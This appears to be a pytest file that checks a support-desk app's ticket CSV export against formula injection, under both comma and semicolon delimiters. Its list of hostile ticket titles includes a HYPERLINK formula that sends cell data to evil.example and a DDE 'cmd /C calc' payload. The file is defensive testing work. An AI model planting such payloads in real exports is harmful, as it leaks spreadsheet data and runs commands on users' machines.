"""CSV injection: the export fetched over real HTTP from a running server, read back the way a
spreadsheet splits it (with `,` and with `;` as the delimiter), never has a cell that starts a
formula, and every text field is quoted."""

from __future__ import annotations

import csv
import io
import urllib.request

import pytest

from support_desk.accounts.models import User
from support_desk.accounts.tokens import api_token_create
from support_desk.tickets.export import neutralised

# A cell a spreadsheet runs: these characters, or their full-width forms, first (after blanks).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "x;=1+1",
    "x,=1+1",
    "x;+cmd|' /C calc'!A0",
    "ok;  -2+3",
    'a";=1+2',
    "tab\t=1+1",
    "pipe|@SUM(A1:A2)",
    "\uff1d1+1",
    "name;\uff20SUM(1)",
    "line\n=1+1",
    "\r=1+1",
]


def _export(live_server, user: User) -> bytes:
    _, token = api_token_create(user=user)
    request = urllib.request.Request(
        f"{live_server.url}/api/tickets/export.csv", headers={"Authorization": f"Bearer {token}"}
    )
    with urllib.request.urlopen(request, timeout=20) as response:
        assert response.status == 200
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
        return response.read()


def _starts_formula(cell: str) -> bool:
    return cell.lstrip(" ").startswith(FORMULA_STARTS)


@pytest.mark.django_db(transaction=True)
def test_no_exported_cell_starts_a_formula_under_either_delimiter(
    live_server, agent: User, make_ticket
) -> None:
    for title in HOSTILE_TITLES:
        make_ticket(title=title, tags=["=tag", "vip;-x"])
    text = _export(live_server, agent).decode()
    for delimiter in (",", ";"):
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if _starts_formula(cell)], delimiter
    # A spreadsheet that splits each record at every separator, quotes or not, finds none either.
    for separator in (",", ";", "\t", "|", "\n", "\r"):
        pieces = [piece.strip('"') for record in text.split("\r\n") for piece in record.split(separator)]
        assert not [piece for piece in pieces if _starts_formula(piece)], repr(separator)


@pytest.mark.django_db(transaction=True)
def test_every_exported_field_is_quoted_and_reads_back_as_written(
    live_server, agent: User, make_ticket
) -> None:
    ticket = make_ticket(title="x;=1+1", tags=["=tag"])
    text = _export(live_server, agent).decode()
    header, line = text.split("\r\n")[:2]
    assert header.startswith('"id","title",')
    assert line.startswith(f'"{ticket.id}","x;\'=1+1",')
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    assert (row["title"], row["tags"]) == ("x;'=1+1", "'=tag")


def test_harmless_text_is_left_alone() -> None:
    assert neutralised("Printer on fire - again, 3rd floor") == "Printer on fire - again, 3rd floor"
    assert neutralised("2026-12-07T10:00:00+00:00") == "2026-12-07T10:00:00+00:00"
    assert neutralised("-5") == "'-5"
    assert neutralised("a; =b") == "a; '=b"
    assert neutralised("\uff20x") == "'\uff20x"
